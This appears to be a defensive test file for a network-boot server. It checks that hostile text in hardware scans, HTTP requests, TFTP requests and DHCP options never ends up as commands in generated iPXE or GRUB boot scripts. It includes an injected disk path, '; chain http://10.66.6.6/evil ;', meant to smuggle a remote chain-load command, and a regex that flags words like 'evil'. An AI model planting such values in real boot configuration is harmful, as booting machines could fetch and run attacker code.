import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { connect } from "node:net";
import { text as allText } from "node:stream/consumers";
import { after, before, describe, test } from "node:test";
import { openLocalBoots } from "../../src/boot-server/dhcp/local-boots.ts";
import {
  bootScriptHandler,
  bootScriptWriter,
  type WriteBootScript,
} from "../../src/boot-server/http/script-handler.ts";
import { startHttpServer } from "../../src/boot-server/http/server.ts";
import { throughputHandler } from "../../src/boot-server/http/throughput-handler.ts";
import { startTftpServer } from "../../src/boot-server/tftp/server.ts";
import { plainText } from "../../src/core/bytes/plain-text.ts";
import { readDhcp } from "../../src/core/dhcp/codec/read.ts";
import { writeDhcp } from "../../src/core/dhcp/codec/write.ts";
import { replyLimit } from "../../src/core/dhcp/reply.ts";
import { machineIdFromMac } from "../../src/core/machine/life/move.ts";
import type { Machine } from "../../src/core/machine/record.ts";
import { hardware } from "../../src/core/machine/testing/test-fleet.ts";
import { testMachine } from "../../src/core/machine/testing/test-machine.ts";
import { ip } from "../../src/core/net/testing/addresses.ts";
import { testNetwork } from "../../src/core/network/testing/test-network.ts";
import type { Log } from "../../src/core/ports.ts";
import { decideByMode } from "../../src/core/pxe/decide-by-mode.ts";
import { bootDiskScripts } from "../../src/core/pxe/script/boot-disk.ts";
import { writeGrubWaitScript } from "../../src/core/pxe/script/grub.ts";
import { planRefused, type ScriptPlan, settingsWriter, writeWaitScript } from "../../src/core/pxe/script/ipxe.ts";
import { orderIssuer } from "../../src/mdb/machine-api/issue-order.ts";
import { openStore } from "../../src/mdb/open-store.ts";
import { asks, birthOf, stillClock, testMac } from "../../src/mdb/testing/fleet.ts";
import { capturedDiscover } from "../support/captures.ts";
import { freePort } from "../support/free-port.ts";
import { hostileBytes, hostileText } from "../support/hostile-words.ts";

const ours = "127.0.0.1";
/** What no answer repeats, and no machine may be told to do. */
const repeated = /evil|owned|forged/;
const scriptUri = `http://${ours}/boot/own.ipxe`;

type Wait = ScriptPlan & { kind: "wait" };
const writersOf = {
  ipxe: (plan: Wait) => writeWaitScript(plan, scriptUri),
  grub: writeGrubWaitScript,
  bootDisk: bootDiskScripts.wait,
  settings: settingsWriter.wait,
} as const;

/** A line of iPXE's script is commands that we write, whose separators and targets are ours; `;`, `&&` and `||` separate as words of their own. */
function assertIpxe(script: string): void {
  const [first, ...lines] = script.trimEnd().split("\n");
  assert.equal(first, "#!ipxe");
  const known =
    /^(echo Birther: |echo Next: |sleep \d+$|imgfree$|kernel http:\/\/10\.77\.[01]\.1:80\/|initrd http:\/\/10\.77\.[01]\.1:80\/|boot$|goto failed$|:failed$|reboot$|exit 1$|sanboot --no-describe --drive )/;
  for (const line of lines) {
    assert.doesNotMatch(line, /[$`"\\#{}]/, line);
    for (const command of line.split(/(?:^|\s)(?:;|&&|\|\|)(?:\s|$)/)) {
      if (command === `chain --replace ${scriptUri}`) continue;
      assert.match(command, known, `${line}: expected commands of ours only`);
    }
  }
}

/** A line of GRUB's script: text stands in double quotes, in which nothing is special that is let through. */
function assertGrub(script: string): void {
  for (const line of script.trimEnd().split("\n")) {
    if (/^\s*echo "[\w .,:;/()+=-]*"$/.test(line)) continue;
    assert.doesNotMatch(line, repeated);
    assert.doesNotMatch(line.replaceAll("($esp)", ""), /[$`"\\{}]|&&|\|\|/, line);
  }
}

/** Settings of the signed image: one word a line, or one line that says why there are none. */
function assertSettings(text: string): void {
  for (const line of text.trimEnd().split("\n"))
    assert.match(line, /^(birther\.refused [\w .,:;/()+=-]*|[\w.]+(=[\w.:/,-]+)?)$/);
}

describe("hostile text reaches nothing that a booting machine obeys", () => {
  const life = new AsyncDisposableStack();
  const clock = stillClock();
  const random = { bytes: (count: number) => randomBytes(count) };
  const logged: Parameters<Log>[] = [];
  const log: Log = (...line) => void logged.push(line);
  const network = testNetwork();
  const ports = { http: 80, machines: 443 };
  const tftpPort = freePort();
  let write: WriteBootScript;
  let http: { readonly port: number };

  before(async () => {
    const store = life.use(await openStore({ path: ":memory:", clock, log }));
    const localBoots = life.use(openLocalBoots({ store, clock, log }));
    const issueOrder = orderIssuer({ store, clock, random, orderSeconds: 600 });
    write = bootScriptWriter({ networks: [network], ports, store, issueOrder, localBoots, clock, log });
    for (const n of [1, 2]) await store.apply(asks(n, ip(`10.77.0.6${n}`)));
    for (const event of birthOf(3)) await store.apply(event);
    const third = machineIdFromMac(testMac(3));
    await store.apply({ kind: "subSeen", id: third, fromDisk: true, runningImage: "compute", upToDate: true });
    for (const n of [1, 2, 3]) {
      const text = hostileText("scan");
      const [nic] = hardware(testMac(n)).nics;
      assert.ok(nic !== undefined);
      const scan = {
        ...{ ...hardware(testMac(n)), cpuModel: text, watchdog: text },
        nics: [{ ...nic, name: text, driver: text, path: text }],
        smbios: { vendor: text, product: text, serial: text, uuid: text },
        pciDevices: [{ address: text, id: text, class: text, driver: text }],
        missingFirmware: [{ device: text, family: text, file: text }],
        disks: n === 1 ? [diskWith(text)] : [],
      };
      await store.apply({ kind: "hardwareScanned", id: machineIdFromMac(testMac(n)), hardware: scan });
    }
    const held = store.byMac(testMac(1))?.conditions.find(({ kind }) => kind === "hold");
    assert.match(held?.reason ?? "", /chain http/, "the reason to hold has the text of the machine");
    http = life.use(
      await startHttpServer({
        ...{ addresses: [ours], port: 0, files: new Map([["/vmlinuz", Buffer.from("kernel")]]), onSent: () => {}, log },
        handlers: [bootScriptHandler({ write, log }), throughputHandler(log)],
      }),
    );
    const files = new Map([["undionly.kpxe", Buffer.alloc(10)]]);
    life.use(await startTftpServer({ addresses: [ours], port: await tftpPort, files, onSent: () => {}, clock, log }));
  });
  after(() => life.disposeAsync());

  const loaders = { ipxe: assertIpxe, grub: assertGrub, bootDisk: assertGrub, settings: assertSettings } as const;
  const lives = { "on hold for the texts of its disks": 1, "to be installed": 2, "to start from its disk": 3 };
  for (const [loader, check] of Object.entries(loaders) as [keyof typeof loaders, (text: string) => void][])
    for (const [name, n] of Object.entries(lives))
      test(`the script for ${loader} of a machine ${name}`, async () => {
        const script = await write(testMac(n), loader, { scriptUri });
        assert.ok(script !== undefined && script.length > 0);
        check(script);
      });

  const fetch = async (head: string): Promise<string> => {
    const socket = connect(http.port, ours);
    socket.end(Buffer.from(`${head}\r\n\r\n`, "latin1"));
    return await allText(socket);
  };
  const printable = plainText(hostileText("http")).replaceAll(/[^!-~ ]/g, "");
  const path = printable.replaceAll(" ", "");
  const script = `/boot/${testMac(1)}.ipxe`;
  const requests: { readonly [what: string]: string } = {
    "a Host header": `GET ${script} HTTP/1.1\r\nhost: ${printable}`,
    "a User-Agent": `GET ${script} HTTP/1.1\r\nhost: x\r\nuser-agent: ${printable}`,
    "a User-Agent that Node refuses": `GET /vmlinuz HTTP/1.1\r\nhost: x\r\nuser-agent: ${hostileText("agent").replaceAll(/[\r\n]/g, "")}`,
    "a query": `GET ${script}?${path} HTTP/1.1\r\nhost: x`,
    "a fragment": `GET ${script}#${path} HTTP/1.1\r\nhost: x`,
    "a whole address": `GET http://evil${script} HTTP/1.1\r\nhost: x`,
    "a path": `GET /${path} HTTP/1.1\r\nhost: x`,
    "a path of a script": `GET /boot/${path}.ipxe HTTP/1.1\r\nhost: x`,
    "a method": `${path} /vmlinuz HTTP/1.1\r\nhost: x`,
    "a range": `GET /vmlinuz HTTP/1.1\r\nhost: x\r\nrange: bytes=${printable}\r\nif-none-match: "${path}"`,
    "a throughput test": `GET /throughput/${path} HTTP/1.1\r\nhost: x`,
  };
  for (const [what, head] of Object.entries(requests))
    test(`HTTP repeats nothing of ${what}`, async () => {
      const answer = await fetch(`${head}\r\nconnection: close`);
      assert.match(answer, /^HTTP\/1\.1 [2-4]\d\d /, answer);
      assert.equal(answer.replaceAll(/\r?\n/g, " "), plainText(answer.replaceAll(/\r?\n/g, " ")));
      const [, body = ""] = answer.split("\r\n\r\n");
      if (!body.startsWith("#!ipxe")) assert.doesNotMatch(answer, repeated);
      else assert.match(body, new RegExp(`^chain --replace http://${ours}:${http.port}${script} \\|\\| reboot$`, "m"));
    });

  test("TFTP repeats nothing of names, modes and options", async () => {
    const socket = life.adopt(createSocket("udp4").bind(0, ours), (socket) => void socket.close());
    await once(socket, "listening");
    const text = hostileText("tftp").replaceAll("\0", "");
    const asked = [
      `${text}\0octet\0`,
      `undionly.kpxe\0${text}\0`,
      `../${text}\0octet\0`,
      `undionly.kpxe\0octet\0${text}\0${text}\0tsize\0${text}\0blksize\x001428\0`,
    ];
    for (const body of [...asked, asked[0]].map((text, n) =>
      Buffer.concat([Buffer.of(0, n === 4 ? 2 : 1), Buffer.from(text ?? "", "latin1")]),
    )) {
      socket.send(body, await tftpPort, ours);
      const [answer] = (await once(socket, "message")) as [Buffer];
      const said = answer.subarray(4).toString("latin1").replaceAll("\0", "");
      assert.equal(said, plainText(said));
      assert.doesNotMatch(said, repeated);
    }
  });

  const firmwares = ["seabios-ipxe-virtio-rom", "ovmf-2022.11-own-pxe", "ovmf-2022.11-ipxe-virtio-rom"];
  const records: readonly (Machine | undefined)[] = [
    undefined,
    testMachine("birth", { temporaryAddress: ip("10.77.0.60") }),
    testMachine("healthy"),
  ];
  for (const firmware of firmwares)
    for (const machine of records)
      for (const type of ["discover", "request", "inform"] as const)
        test(`the answer to a hostile ${type} of ${firmware}, ${machine?.state ?? "without a record"}`, () => {
          const { vendorClassIdentifier = "", ...sent } = capturedDiscover(firmware).options;
          const text = hostileText("dhcp");
          const bytes = Uint8Array.from(hostileBytes("dhcp").subarray(0, 60));
          const request = {
            ...capturedDiscover(firmware),
            ...{ sname: text.slice(0, 60), file: text.slice(0, 120) },
            options: {
              ...sent,
              ...{ dhcpMessageType: type, hostName: text, domainName: text, message: text, clientIdentifier: bytes },
              ...{ vendorClassIdentifier: `${vendorClassIdentifier}${text}`, tftpServerName: text, bootFileName: text },
              ...{ vendorSpecificInformation: bytes, clientMachineIdentifier: bytes, maximumDhcpMessageSize: 1500 },
              ...(type === "request"
                ? { requestedIpAddress: ip("10.77.0.60"), serverIdentifier: ip("10.77.0.1") }
                : {}),
              parameterRequestList: [1, 3, 6, 12, 15, 28, 43, 54, 56, 60, 66, 67],
            },
          };
          const holderOf = () => undefined;
          const decision = decideByMode({ packet: request, network, ports, machine, holderOf }, true);
          if (decision.kind !== "reply") return;
          const read = readDhcp(writeDhcp(decision.reply, replyLimit(request)));
          const { packet } = read.kind === "packet" ? read : assert.fail(read.fault);
          // Both are echoed as bytes, to the client that sent them: RFC 6842, PXE 2.1.
          const { clientIdentifier, clientMachineIdentifier, ...others } = packet.options;
          assert.deepEqual(clientIdentifier, bytes);
          if (others.dhcpMessageType !== "nak") assert.deepEqual(clientMachineIdentifier, bytes);
          const said = [packet.sname, packet.file, ...Object.values(others)].map((value) =>
            value instanceof Uint8Array ? Buffer.from(value).toString("latin1") : String(value),
          );
          assert.doesNotMatch(said.join(" "), repeated);
          for (const text of [packet.sname, packet.file, others.bootFileName ?? "", others.message ?? ""])
            assert.equal(text, plainText(text));
        });

  test("a refusal with any text is one line of each loader", () => {
    const plan = planRefused({ kind: "held", message: hostileText("refusal"), next: hostileText("next") });
    assert.ok(plan.kind === "wait");
    for (const [loader, check] of Object.entries(loaders)) check(writersOf[loader as keyof typeof loaders](plan));
  });

  test("what the servers have logged is plain lines, for people and for programs", async () => {
    assert.ok(logged.length > 20, `${logged.length} lines`);
    for (const json of [false, true]) {
      const file = JSON.stringify(new URL("../../src/log/structured-log.ts", import.meta.url).href);
      const action = `const { openLog } = await import(${file});
        const log = openLog({ json: ${json}, least: "debug" });
        for (const line of JSON.parse(process.argv[1])) log(...line);`;
      const flags = ["--disable-warning=ExperimentalWarning", "--input-type=module", "-e", action];
      const child = spawn(process.execPath, [...flags, JSON.stringify(logged)], {
        stdio: ["ignore", "ignore", "pipe"],
      });
      const lines = (await allText(child.stderr)).trimEnd().split("\n");
      assert.equal(lines.length, logged.length);
      for (const line of lines) assert.equal(line, plainText(line));
    }
  });
});

function diskWith(text: string) {
  return {
    ...{ path: "; chain http://10.66.6.6/evil ;", model: text, serial: text, wwn: text, bus: text, contents: [text] },
    ...{ sizeBytes: 1e12, rotational: false, removable: false },
  };
}
